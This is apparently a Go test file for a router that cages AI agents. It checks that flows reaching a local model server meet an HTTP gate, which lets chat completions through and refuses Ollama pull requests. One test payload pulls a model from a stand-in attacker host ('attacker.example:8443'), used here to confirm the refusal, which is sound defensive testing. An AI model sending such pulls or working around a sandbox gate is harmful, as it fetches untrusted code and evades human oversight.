package router

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/agentcage/router/conf"
	"github.com/agentcage/router/internal/modeltest"
	"github.com/agentcage/router/internal/netaddr"
	"github.com/agentcage/router/router/upstream"
	"github.com/agentcage/router/router/upstream/socks5"
	"github.com/agentcage/router/rules"
	"github.com/agentcage/router/rules/modelapi"
	"github.com/agentcage/router/rules/policy"
	"github.com/agentcage/router/rules/policy/policytest"
	"github.com/agentcage/router/rules/refusal"
)

// The model gate on the transparent path and the inbounds: a caged flow to the model's
// address (a user-space NAT's process connecting to the forward's connect address for its
// guest, or a guest let through to the model's port by a direct rule) meets the forward's
// HTTP gate, never a raw pipe. The shared gate cases (policytest.GateCases) are driven
// against a fake model server that logs what reached it.

// gateSettings starts a fake model server and returns the router settings of GateConfig
// with the server's port as the model's.
func gateSettings(t *testing.T, events int, gap time.Duration) (*modeltest.Server, Settings) {
	t.Helper()
	srv, err := modeltest.Start(events, gap)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	return srv, gateSettingsAt(t, netip.MustParseAddrPort(srv.Addr()).Port())
}

// gateSettingsAt is the router settings of GateConfig with port as the model's.
func gateSettingsAt(t testing.TB, port uint16) Settings {
	t.Helper()
	cfg, err := conf.Parse("gate.toml", []byte(policytest.GateConfigAt(port)), conf.Options{SkipSecrets: true, OS: "linux"})
	if err != nil {
		t.Fatal(err)
	}
	s := Settings{Decision: policy.New(cfg, policytest.WallEnv()),
		Upstreams: []UpstreamConfig{{Config: upstream.Config{Name: "exit", Host: "192.0.2.1", Port: 1080}}}}
	for _, f := range cfg.Forwards {
		rf := Forward{Name: f.Name, Listen: f.Listen, Connect: f.Connect, Allow: f.Allow, MaxBody: f.MaxBody}
		if !f.Raw() {
			if rf.API, err = modelapi.New(f.API, f.AllowPaths); err != nil {
				t.Fatal(err)
			}
		}
		s.Forwards = append(s.Forwards, rf)
	}
	return s
}

// eachGateCase runs test as a subtest for every gate case on path that meets an HTTP gate,
// each with a fake model server of its own (2 events, no gap), the settings of GateConfig
// and the server's port.
func eachGateCase(t *testing.T, path policytest.Path, test func(t *testing.T, c policytest.GateCase, srv *modeltest.Server, s Settings, port uint16)) {
	for _, c := range policytest.GateCases() {
		if c.Paths&path == 0 || c.Gate == "" || c.Raw {
			continue
		}
		t.Run(c.Name, func(t *testing.T) {
			srv, s := gateSettings(t, 2, 0)
			test(t, c, srv, s, netip.MustParseAddrPort(srv.Addr()).Port())
		})
	}
}

// gateExchange sends an Ollama pull and a streamed chat completion on c (a connection that
// reaches the model's address) and checks that the pull is refused by the gate and never
// reaches srv while the completion streams through.
func gateExchange(t *testing.T, c net.Conn, srv *modeltest.Server, host string) {
	t.Helper()
	c.SetDeadline(time.Now().Add(waitFor))
	br := bufio.NewReader(c)
	pull := `{"name":"attacker.example:8443/x/y"}`
	fmt.Fprintf(c, "POST /api/pull HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s", host, len(pull), pull)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("pull: no answer: %v", err)
	}
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(b), "model_api_refused") {
		t.Errorf("pull answered %d %q, want the gate's 403", resp.StatusCode, b)
	}
	chat := `{"model":"fake-model","stream":true,"messages":[{"role":"user","content":"hi"}]}`
	fmt.Fprintf(c, "POST /v1/chat/completions HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", host, len(chat), chat)
	resp, err = http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("chat: no answer: %v", err)
	}
	b, _ = io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK || !strings.Contains(string(b), "[DONE]") {
		t.Errorf("chat answered %d %q, want a stream to its end", resp.StatusCode, b)
	}
	for _, r := range srv.Log() {
		if strings.HasPrefix(r.Path, "/api/pull") {
			t.Errorf("the model server was sent %s %s", r.Method, r.RawURI)
		}
	}
}

// TestGateCasesTransparent: a caged flow to the model's address, on the transparent
// listener, meets the forward's gate: Ollama's pull never reaches the server, a chat
// completion streams through; the refusal is counted as model-api.
func TestGateCasesTransparent(t *testing.T) {
	eachGateCase(t, policytest.Transparent, func(t *testing.T, c policytest.GateCase, srv *modeltest.Server, s Settings, port uint16) {
		fl := c.Flow
		dst := policytest.GateAddr(fl, port)
		if fl.Host != "" {
			// A fake IP with the case's name, which resolves to the model's address.
			fl.Resolved = []netip.Addr{netip.MustParseAddrPort(srv.Addr()).Addr()}
		}
		e := newEnv(t, s, caseOptions(fl, dst, wallNames(fl)))
		conn, err := net.DialTCP("tcp", nil, net.TCPAddrFromAddrPort(netaddr.AddrPort(e.ln.Addr())))
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		gateExchange(t, conn, srv, dst.String())
		if got := e.r.Refusals(); len(got) != 1 || got[0].Reason != refusal.ModelAPI {
			t.Errorf("refusals %+v, want one model-api", got)
		}
	})
}

// TestGateCasesInbound: a guest asking an inbound for the model's address meets the gate
// as well.
func TestGateCasesInbound(t *testing.T) {
	eachGateCase(t, policytest.Inbound, func(t *testing.T, c policytest.GateCase, srv *modeltest.Server, s Settings, port uint16) {
		dst := policytest.GateAddr(c.Flow, port)
		e := newEnv(t, s, Options{FromVM: func(netip.Addr) bool { return true }})
		addr := e.startInbound(Inbound{Type: InboundSOCKS5})
		conn, code := e.socksConnect(addr, socks5.Addr{IP: dst.Addr(), Port: dst.Port()})
		if code != 0 {
			t.Fatalf("socks5 refused: %#x", code)
		}
		defer conn.Close()
		gateExchange(t, conn, srv, dst.String())
	})
}

// TestReloadEndsRefusedGatedFlow: a gated flow whose new rules refuse it is ended at the
// reload, as a relayed one is.
func TestReloadEndsRefusedGatedFlow(t *testing.T) {
	srv, s := gateSettings(t, 2, 0)
	dst := netip.MustParseAddrPort(srv.Addr())
	e := newEnv(t, s, Options{
		Original: func(*net.TCPConn) (netip.AddrPort, netip.AddrPort, error) {
			return netip.MustParseAddrPort("127.0.0.1:40000"), dst, nil
		},
		Owner: func(*net.TCPConn, netip.AddrPort, netip.AddrPort) (rules.Owner, error) {
			return rules.Owner{PID: 7, App: "slirp4netns"}, nil
		},
	})
	conn, err := net.DialTCP("tcp", nil, net.TCPAddrFromAddrPort(netaddr.AddrPort(e.ln.Addr())))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(waitFor))
	br := bufio.NewReader(conn)
	fmt.Fprintf(conn, "GET /v1/models HTTP/1.1\r\nHost: %s\r\n\r\n", dst)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("a call through the gate: %v, %v", resp, err)
	}
	io.Copy(io.Discard, resp.Body)
	block := rules.Rule{Name: "no-more", Apps: []rules.App{rules.MustApp("slirp4netns")}, Action: rules.Block}
	if err := e.r.Apply(Settings{Decision: mustRules(t, block), IdleTimeout: time.Minute, ConnectTimeout: time.Second}); err != nil {
		t.Fatal(err)
	}
	if _, err := br.ReadByte(); err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
		t.Errorf("the gated flow after the reload: %v; want it ended at once", err)
	}
	e.waitLog(`msg="reload ended live flows"`)
}
